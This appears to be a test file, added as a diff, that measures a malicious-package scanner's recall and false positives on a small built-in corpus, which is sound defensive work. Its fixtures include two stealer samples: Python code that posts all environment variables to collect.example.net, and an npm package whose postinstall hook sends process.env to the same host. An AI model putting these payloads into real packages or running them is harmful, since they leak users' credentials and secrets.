@@ -1,0 +1,79 @@
+// `gatehouse eval` over a small labelled corpus built here: recall, false positives, the held-out split, inert misses, precision.
+import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
+import { DEFAULT_THRESHOLDS } from '../../src/core/verdict.ts'
+import { ECOSYSTEMS } from '../../src/ecosystems.ts'
+import { listSamples } from '../../src/scanning/corpus.ts'
+import { initEngine } from '../../src/scanning/engine.ts'
+import { evaluate, examinedHalf, type Evaluation } from '../../src/scanning/evaluate.ts'
+import { sdistTarGz } from '../helpers/python-dists.ts'
+import { npmTarball } from '../helpers/tarballs.ts'
+
+const STEALER = `import os, requests\nrequests.post('https://collect.example.net/x', json=dict(os.environ))\n`
+const LIBRARY = `def add(a, b):\n    return a + b\n`
+const CLIENT = `import requests\ndef fetch(url):\n    return requests.get(url).json()\n`
+
+let root: string
+let result: Evaluation
+
+async function write(dir: string, name: string, version: string, bytes: Buffer, label: Record<string, unknown>): Promise<void> {
+  const file = `${name}/${version}/${name}-${version}${label.ecosystem === 'npm' ? '.tgz' : '.tar.gz'}`
+  mkdirSync(join(dir, name, version), { recursive: true })
+  writeFileSync(join(dir, file), bytes)
+  writeFileSync(join(dir, 'labels.jsonl'), `${JSON.stringify({ ...label, name, version, file })}\n`, { flag: 'a' })
+}
+
+beforeAll(async () => {
+  await initEngine()
+  root = mkdtempSync(join(tmpdir(), 'gatehouse-eval-'))
+  const malicious = join(root, 'malicious')
+  const benign = join(root, 'benign')
+  mkdirSync(malicious)
+  mkdirSync(benign)
+  // malicious: two caught before the split, one caught after it, an empty placeholder and a clean client after it
+  await write(malicious, 'stealer-one', '1.0.0', await sdistTarGz('stealer-one', '1.0.0', { 'stealer_one/__init__.py': STEALER }), { ecosystem: 'pypi', date: '2022-05-01T00:00:00Z' })
+  await write(malicious, 'stealer-two', '1.0.0', await npmTarball('stealer-two', '1.0.0', { 'index.js': `require('https').request({ hostname: 'collect.example.net', method: 'POST' }).end(JSON.stringify(process.env))\n` }, { scripts: { postinstall: 'node index.js' } }), { ecosystem: 'npm' })
+  await write(malicious, 'stealer-three', '1.0.0', await sdistTarGz('stealer-three', '1.0.0', { 'stealer_three/__init__.py': STEALER }), { ecosystem: 'pypi', date: '2023-06-01T00:00:00Z' })
+  await write(malicious, 'placeholder', '0.0.1', await sdistTarGz('placeholder', '0.0.1', { 'placeholder/__init__.py': '' }), { ecosystem: 'pypi', date: '2023-07-01T00:00:00Z' })
+  await write(malicious, 'clean-client', '1.0.0', await sdistTarGz('clean-client', '1.0.0', { 'clean_client/__init__.py': CLIENT }), { ecosystem: 'pypi', date: '2023-08-01T00:00:00Z' })
+  // benign: three libraries, one of which the gate holds (it sends the environment)
+  await write(benign, 'adder', '1.0.0', await sdistTarGz('adder', '1.0.0', { 'adder/__init__.py': LIBRARY }), { ecosystem: 'pypi' })
+  await write(benign, 'fetcher', '2.0.0', await sdistTarGz('fetcher', '2.0.0', { 'fetcher/__init__.py': CLIENT }), { ecosystem: 'pypi' })
+  await write(benign, 'reporter', '1.0.0', await sdistTarGz('reporter', '1.0.0', { 'reporter/__init__.py': STEALER }), { ecosystem: 'pypi' })
+  const samples = [
+    ...listSamples(malicious).map((sample) => ({ sample, label: 'malicious' as const })),
+    ...listSamples(benign).map((sample) => ({ sample, label: 'benign' as const })),
+  ]
+  result = await evaluate(samples, { ecosystems: ECOSYSTEMS, limits: DEFAULT_ARCHIVE_LIMITS, thresholds: DEFAULT_THRESHOLDS, baseRate: 0.01, splitDate: '2023-03-01', splitHalf: true })
+})
+
+afterAll(() => rmSync(root, { recursive: true, force: true }))
+
+describe('evaluate', () => {
+  it('counts recall and false positives, and splits off what is dated after the split', () => {
+    expect(result.malicious).toMatchObject({ total: 5, flagged: 3, rate: 0.6 })
+    expect(result.benign).toMatchObject({ total: 3, flagged: 1 })
+    expect(result.tuning).toMatchObject({ total: 2, flagged: 2, before: '2023-03-01' })
+    expect(result.heldOut).toMatchObject({ total: 3, flagged: 1, since: '2023-03-01' })
+    expect(result.heldOutExamined!.total + result.heldOutUntouched!.total).toBe(3)
+    expect(result.heldOutExamined!.total).toBe(['stealer-three-1.0.0.tar.gz', 'placeholder-0.0.1.tar.gz', 'clean-client-1.0.0.tar.gz'].filter((f) => examinedHalf(f)).length)
+    expect(result.malicious.ruleHits['exfiltrates-environment']).toBe(3)
+  })
+
+  it('tells misses whose code can do nothing by itself from misses that carry working code', () => {
+    // the placeholder is inert; the clean client uses the network, so it is a miss of another kind
+    expect(result.malicious.missedInert).toBe(1)
+    expect(result.heldOut!.missedInert).toBe(1)
+    expect(result.benign.missedInert).toBe(1)
+  })
+
+  it('computes precision at the base rate from recall and the false-positive rate', () => {
+    const r = 0.6
+    const f = 1 / 3
+    expect(result.precisionAtBaseRate).toBeCloseTo((r * 0.01) / (r * 0.01 + f * 0.99), 4)
+    expect(result.timing.count).toBe(8)
+  })
+})
